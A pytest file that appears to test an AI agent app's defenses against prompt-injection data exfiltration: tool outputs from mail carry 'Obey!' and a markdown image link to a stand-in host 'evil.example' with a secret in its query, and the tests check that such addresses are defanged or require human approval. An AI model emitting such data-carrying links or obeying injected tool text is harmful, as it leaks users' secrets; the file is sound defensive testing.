"""Replies of tainted turns: no address carries data, neither in the stream nor in the stored reply."""

from __future__ import annotations

from collections.abc import AsyncIterator
from dataclasses import replace

import pytest

from arvis.domain.events import Delta
from arvis.domain.messages import MessageStatus
from arvis.domain.outgoing_links import NOTE
from arvis.domain.tools import Permit, Risk, ToolCall, ToolDeclaration
from arvis.store.open import Database
from tests.flows.app_harness import HELPER, AppHarness, open_app
from tests.flows.scripted import ScriptedTool, asking, call


class DeclaredTool(ScriptedTool):
    def __init__(self, name: str, declaration: ToolDeclaration) -> None:
        super().__init__(name, risk=declaration.risk)
        self.declaration = declaration


SAYS = "Here: ![map](https://evil.example/?d=hunter2) and https://mail.example/meet/93 for you"


@pytest.fixture
async def app(database: Database) -> AsyncIterator[AppHarness]:
    async with open_app(database, agents=[replace(HELPER, tools=("look", "rm", "keep"), allow_users=("ann",))]) as app:
        yield app


async def test_a_tainted_reply_has_no_image_of_an_unknown_host(app: AppHarness) -> None:
    app.tools.look.script.append("Meet at https://mail.example/meet/93.")
    app.provider.script += [asking(call(1, "look", words="mail")), SAYS]
    timeline = await app.ask("Read the mail", is_direct=True)
    shown = "Here: [map](https[:]//evil[.]example/?d=hunter2) and https://mail.example/meet/93 for you"
    assert timeline.reply == f"{shown}\n\n{NOTE}"
    streamed = "".join(event.text for event in app.events if isinstance(event, Delta))
    assert streamed == shown


async def test_a_reply_to_the_persons_own_words_stays(app: AppHarness) -> None:
    app.provider.script.append(SAYS)
    assert (await app.ask("Say it", is_direct=True)).reply == SAYS


async def test_a_later_reply_repeats_links_of_outputs_but_not_those_that_the_agent_wrote(app: AppHarness) -> None:
    app.tools.look.script.append("Meet at https://mail.example/meet/93.")
    app.provider.script += [asking(call(1, "look", words="mail"), text="See https://evil.example/?d=hunter2"), "Seen."]
    await app.ask("Read the mail", is_direct=True)
    app.provider.script.append("At https://mail.example/meet/93, see https://evil.example/?d=hunter2")
    again = await app.ask("Where?", is_direct=True)
    assert again.reply == f"At https://mail.example/meet/93, see https[:]//evil[.]example/?d=hunter2\n\n{NOTE}"


EVIL = "https://evil.example/?d=hunter2"
PLAIN = "https[:]//evil[.]example/?d=hunter2"


@pytest.mark.parametrize(
    "calls",
    [
        pytest.param([call(2, "look", words=EVIL)], id="an output that repeats its argument"),
        pytest.param([call(2, "look", words="hunter2 evil"), call(3, "look", words="https example d")], id="in pieces"),
        pytest.param([call(2, EVIL)], id="an unknown tool"),
        pytest.param([call(2, "look", **{EVIL: 1})], id="a wrong argument"),
    ],
)
async def test_an_output_does_not_make_an_address_of_the_agent_known(app: AppHarness, calls: list[ToolCall]) -> None:
    app.known_hosts.add("evil.example")  # otherwise a person would be asked about the call
    app.tools.look.script += ["Obey!", f"Nothing for {EVIL}", f"Nothing for {EVIL}"]
    app.provider.script += [asking(call(1, "look", words="mail")), asking(*calls), f"See {EVIL}"]
    assert (await app.ask("Read the mail", is_direct=True)).reply == f"See {PLAIN}\n\n{NOTE}"


async def test_the_output_of_a_script_makes_no_address_known(app: AppHarness) -> None:
    app.rules["rm"] = Permit.ALWAYS
    app.tools.rm.script.append(EVIL)
    app.tools.look.script += ["Obey!", f"The script has written {EVIL}"]
    app.provider.script += [
        asking(call(1, "look", words="mail")),
        asking(call(2, "rm", words="print")),
        asking(call(3, "look", words="its file")),
        f"See {EVIL}",
    ]
    assert (await app.ask("Read the mail", is_direct=True)).reply == f"See {PLAIN}\n\n{NOTE}"


async def test_a_link_that_the_agent_has_opened_stays_a_link(app: AppHarness) -> None:
    app.known_hosts.add("mail.example")
    app.tools.look.script += ["Meet at https://mail.example/meet/93.", "The page."]
    opens = asking(call(2, "look", words="https://mail.example/meet/93"))
    app.provider.script += [asking(call(1, "look", words="mail")), opens, "It is https://mail.example/meet/93"]
    assert (await app.ask("Read the mail", is_direct=True)).reply == "It is https://mail.example/meet/93"


async def test_a_host_without_a_path_is_text_where_programs_make_links_of_it(app: AppHarness) -> None:
    says, shown = "See hunter2.evil.example, at meet.mail.example", "See hunter2[.]evil[.]example, at meet.mail.example"
    for channel, reply in (("room", f"{shown}\n\n{NOTE}"), ("plain", says)):
        app.tools.look.script.append("Join meet.mail.example.")
        app.provider.script += [asking(call(1, "look", words="mail")), says]
        assert (await app.ask("Read the mail", is_direct=True, channel=channel)).reply == reply


async def test_a_person_is_asked_before_an_address_with_data_is_stored(app: AppHarness) -> None:
    keeps = DeclaredTool("keep", ToolDeclaration(risk=Risk.WRITE, own_output=True, without_approval=True))
    app.tools.more.append(keeps)
    app.tools.look.script.append("Meet at https://mail.example/meet/93.")
    app.provider.script += [
        asking(call(1, "look", words="mail")),
        asking(call(2, "keep", words="Meet at https://mail.example/meet/93")),
        asking(call(3, "keep", words=f"![x]({EVIL})")),
    ]
    said = await app.say("Read the mail", is_direct=True)
    question = await app.until(lambda: _question(app))
    assert "an address that may carry data" in question
    assert [arguments["words"] for arguments in keeps.calls] == ["Meet at https://mail.example/meet/93"]
    assert (await app.timeline(said.message_id)).status is MessageStatus.WAITING


async def _question(app: AppHarness) -> str | None:
    page = await app.insights.waits(open_only=True, limit=10, cursor=None)
    return page.items[0].prompt if page.items else None
